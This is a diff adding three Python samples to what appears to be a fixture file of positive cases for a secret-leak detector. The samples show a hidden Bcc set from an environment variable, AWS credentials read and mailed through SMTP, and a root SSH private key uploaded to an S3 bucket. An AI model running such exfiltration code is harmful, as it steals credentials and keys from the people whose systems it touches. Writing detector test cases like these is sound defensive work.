@@ -164,6 +164,39 @@ export const inPython: DetectorExamples = {
       why: 'objects that are made from bytes run what these say',
       attributes: { source: 'download', sink: 'code.evaluate', to: 'pickle' },
     },
+    {
+      path: 'x.py',
+      code: [
+        'import os, smtplib',
+        'from email.message import EmailMessage',
+        'def send(to):',
+        '    msg = EmailMessage()',
+        "    msg['To'] = to",
+        "    msg['Bcc'] = os.environ['MAIL_ARCHIVE']",
+      ].join('\n'),
+      why: 'a setting chooses who gets a hidden copy',
+      attributes: { source: 'environment:MAIL_ARCHIVE', sink: 'email.recipient', to: 'bcc' },
+    },
+    {
+      path: 'x.py',
+      code: [
+        'import os, smtplib',
+        "text = open(os.path.expanduser('~/.aws/credentials')).read()",
+        "smtplib.SMTP('mail.example').sendmail('a@mail.example', ['b@mail.example'], text)",
+      ].join('\n'),
+      why: 'a secret goes as a mail',
+      attributes: { source: 'file:credential', sink: 'email.body', to: 'sendmail' },
+    },
+    {
+      path: 'x.py',
+      code: [
+        'import boto3',
+        "client = boto3.client('s3')",
+        "client.put_object(Bucket='taken', Key='x', Body=open('/root/.ssh/id_rsa').read())",
+      ].join('\n'),
+      why: 'into a bucket',
+      attributes: { source: 'file:ssh', sink: 'network.body', to: 'bucket:taken' },
+    },
   ],
   good: [
     {
